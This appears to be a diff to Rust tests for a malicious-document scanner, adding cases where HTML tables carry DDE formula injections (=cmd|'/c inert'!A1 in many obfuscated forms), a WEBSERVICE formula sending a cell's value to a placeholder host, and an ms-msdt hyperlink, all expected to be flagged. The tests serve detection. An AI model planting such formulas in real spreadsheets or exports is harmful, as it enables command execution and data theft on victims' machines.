@@ -281,8 +281,20 @@ fn a11_pages_of_office_programs() {
             "external.template",
         ),
         (
-            "<table><tr><td>=inert|'x'!A0</td></tr></table>",
+            "<table><tr><td>=inert|'/c x'!A0</td></tr></table>",
             "dde.formula",
+        ),
+        (
+            "<table><tr><td>=inert|'x'!A0</td></tr></table>",
+            "dde.formula-unknown",
+        ),
+        (
+            "<table><tr><td>=WEBSERVICE(\"http://example.invalid/\"&amp;A1)</td></tr></table>",
+            "external.formula",
+        ),
+        (
+            "<table><tr><td>=HYPERLINK(\"ms-msdt:/id x\")</td></tr></table>",
+            "external.hyperlink-handler",
         ),
         (
             "<span style='mso-element:field-begin'></span>DDEAUTO inert x<span \
@@ -297,6 +309,41 @@ fn a11_pages_of_office_programs() {
     }
     let report = found("<script>var a = new ActiveXObject('x');</script>");
     assert_eq!(report.verdict(), Verdict::Unscannable);
+}
+
+/// Excel opens a table without a page, and resolves references in its cells.
+#[test]
+fn a11_tables_with_formulas() {
+    for table in [
+        "<table><tr><td>=cmd|'/c inert'!A1</td></tr></table>",
+        "<TABLE border=1>\r\n<TR><TD>=cmd|'/c inert'!A1</TD></TR></TABLE>",
+        "INERT TEST DOCUMENT <table><td>=cmd|'/c inert'!A1",
+        "<html><table><tr><td>=cmd&#124;'/c inert'!A1</td></tr></table></html>",
+        "<table><tr><td>&#61;cmd&verbar;'/c inert'&#x21;A1</td></tr></table>",
+        "<html><table><tr><td>=c<b>md</b>|'/c inert'!A1</td></tr></table></html>",
+        "<html><table><tr><td> &nbsp;=<br>cmd|'/c inert'!A1</td></tr></table></html>",
+        "<html><table><tr><td>@cmd|'/c inert'!A1</td></tr></table></html>",
+        "<html><table><tr><td>-2+3+cmd|' /C inert'!A0</td></tr></table></html>",
+        "<html><table><tr><th>+cmd|'/c inert'!A0</th></tr></table></html>",
+        "<html><table><tr><td x:fmla=\"=cmd|'/c inert'!A1\">1</td></tr></table></html>",
+    ] {
+        let report = Scanner::new().scan(table.as_bytes());
+        assert_eq!(report.format(), "html", "{table}");
+        assert_eq!(report.verdict(), Verdict::Malicious, "{table}");
+        assert!(
+            report
+                .findings()
+                .iter()
+                .any(|one| one.rule == "dde.formula")
+        );
+    }
+    for web in [
+        "<html><table><tr><td>=WEB<i>SERVICE</i>(\"http://example.invalid/\"&A1)</td></tr></table>",
+        "<html><table><tr><td>=WEBSERVICE&#40;\"http://example.invalid/\")</td></tr></table>",
+    ] {
+        let report = Scanner::new().scan(web.as_bytes());
+        assert_eq!(report.verdict(), Verdict::Suspicious, "{web}");
+    }
 }
 
 #[test]
@@ -325,6 +372,7 @@ fn a11_an_ordinary_page_is_of_no_concern() {
         "<!DOCTYPE html><html><body onload='x()'><script>eval(1)</script><iframe \
          src='https://example.invalid/'></iframe><img src='https://example.invalid/a.png'></html>",
         "<html><table><td>- a | b!</td><td>=1</td></table></html>",
+        "<html><table><td>-a|b!c</td><td>- name: \"x|y!z\"</td><td>&#61;1</td></table></html>",
     ] {
         Row::new(page.as_bytes(), Verdict::Other).check();
     }
